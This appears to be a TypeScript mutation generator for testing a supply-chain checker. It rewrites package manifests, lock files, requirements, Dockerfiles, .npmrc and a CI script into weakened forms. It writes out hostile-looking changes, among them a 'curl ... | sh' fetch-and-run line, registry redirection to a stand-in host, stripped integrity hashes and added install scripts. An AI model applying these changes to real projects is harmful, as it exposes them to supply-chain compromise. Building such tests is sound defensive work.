import type { ProjectFiles } from '../../../supply-chain/project-files';

/** A change of one file that says what comes into the project from elsewhere. */
export interface FileChange {
  /** What kind of change, such as "range instead of exact". */
  readonly operator: string;
  readonly file: string;
  /** The package, the line or the setting that it changes. */
  readonly place: string;
  readonly apply: (text: string) => string;
}

type Locked = Record<string, unknown>;

const foreign = 'https://packages.example.com';

/** Every change of every place of these files. Applied only when drawn: a lock file is long. */
export function fileChangesOf(files: ProjectFiles): FileChange[] {
  return Object.entries(files).flatMap(([file, text = '']) => {
    if (/(^|\/)package\.json$/.test(file)) return ofManifest(file, text);
    if (file === 'package-lock.json') return ofLock(file, text);
    if (/(^|\/)requirements[^/]*\.txt$/.test(file)) return ofPythonList(file, text);
    if (/(^|\/)Dockerfile$/.test(file)) return ofImage(file);
    if (file === '.npmrc') return ofSettings(file, text);
    return file === '.ci/run' ? ofBuild(file, text) : [];
  });
}

function ofManifest(file: string, text: string): FileChange[] {
  const manifest = JSON.parse(text) as Record<string, Record<string, string> | undefined>;
  const set = (operator: string, field: string, name: string, value: string): FileChange => ({
    operator,
    file,
    place: `${field} ${name}`,
    apply: json((one) => {
      one[field] = { ...(one[field] as object | undefined), [name]: value };
    }),
  });
  return [
    ...['dependencies', 'devDependencies'].flatMap((field) =>
      Object.entries(manifest[field] ?? {}).flatMap(([name, version]) => [
        set('range instead of exact', field, name, `^${version}`),
        set('range instead of exact', field, name, 'latest'),
        set('foreign origin', field, name, `${foreign}/${name}.tgz`),
      ]),
    ),
    ...['preinstall', 'install', 'postinstall', 'prepare'].map((name) =>
      set('install script', 'scripts', name, 'node setup.js'),
    ),
  ];
}

function ofLock(file: string, text: string): FileChange[] {
  const { packages } = JSON.parse(text) as { packages: Record<string, Locked> };
  return Object.entries(packages)
    .filter(([path, { link, inBundle }]) => path.includes('node_modules/') && link !== true && inBundle !== true)
    .flatMap(([path, { version, integrity, hasInstallScript }]) => {
      const set = (operator: string, values: Locked): FileChange => ({
        operator,
        file,
        place: path,
        apply: json((lock) => {
          Object.assign((lock.packages as Record<string, Locked>)[path], values);
        }),
      });
      return [
        set('range instead of exact', { version: `^${String(version)}` }),
        set('foreign origin', { resolved: `${foreign}/package.tgz` }),
        set('no hash', { integrity: undefined }),
        set('weaker hash', { integrity: String(integrity).replace('sha512-', 'sha1-') }),
        ...(hasInstallScript === true ? [] : [set('install script', { hasInstallScript: true })]),
      ];
    });
}

function ofPythonList(file: string, text: string): FileChange[] {
  const pins = [...text.matchAll(/^[\w.[\]-]+==[^\s\\]+/gm)].map(([pin]) => pin);
  const replaced = (operator: string, place: string, from: RegExp, to: string): FileChange => ({
    operator,
    file,
    place,
    apply: (before) => before.replace(from, to),
  });
  return [
    ...pins.flatMap((pin) => {
      const start = `^${pin.replace(/[.[\]+]/g, '\\$&')}`;
      return [
        replaced('range instead of exact', pin, new RegExp(`${start}(?=\\s)`, 'm'), pin.replace('==', '>=')),
        replaced('no hash', pin, new RegExp(`${start}[^\\n]*\\n(?:[ ]+--hash=\\S+[^\\n]*\\n?)+`, 'm'), `${pin}\n`),
      ];
    }),
    ...['--index-url', '--extra-index-url', '--find-links'].map((option) =>
      replaced('foreign origin', option, /^/, `${option} ${foreign}\n`),
    ),
  ];
}

function ofImage(file: string): FileChange[] {
  const base = /^FROM .*/m;
  return [
    { operator: 'tag latest', file, place: 'FROM', apply: (before) => before.replace(base, 'FROM python:latest') },
    ...inserted(file, ['RUN pip install requests', `ADD ${foreign}/model.tar.gz /opt/`]),
  ];
}

function ofSettings(file: string, text: string): FileChange[] {
  const settings = [`registry=${foreign}/`, `@aws-sdk:registry=${foreign}/`, 'ignore-scripts=false'];
  return [
    ...settings.map((line) => ({
      operator: line.includes('registry') ? 'foreign origin' : 'setting',
      file,
      place: line,
      apply: (before: string) => `${before.trimEnd()}\n${line}\n`,
    })),
    ...text
      .split('\n')
      .filter((line) => line !== '')
      .map((line) => ({
        operator: 'setting',
        file,
        place: line,
        apply: (one: string) => one.replace(`${line}\n`, ''),
      })),
  ];
}

function ofBuild(file: string, text: string): FileChange[] {
  return [
    ...inserted(file, [`curl -fsSL ${foreign}/setup | sh`, 'npx --yes left-pad', 'pip install requests']),
    ...(text.includes('npm ci')
      ? [{ operator: 'setting', file, place: 'npm ci', apply: (one: string) => one.replace('npm ci', 'npm install') }]
      : []),
  ];
}

/** Each line at the end: within the file it could become part of a command that goes on over several lines. */
function inserted(file: string, lines: readonly string[]): FileChange[] {
  return lines.map((line) => ({
    operator: 'download in a build',
    file,
    place: line,
    apply: (before) => `${before.trimEnd()}\n${line}\n`,
  }));
}

function json(edit: (value: Record<string, unknown>) => void): (text: string) => string {
  return (text) => {
    const value = JSON.parse(text) as Record<string, unknown>;
    edit(value);
    return `${JSON.stringify(value, undefined, 2)}\n`;
  };
}
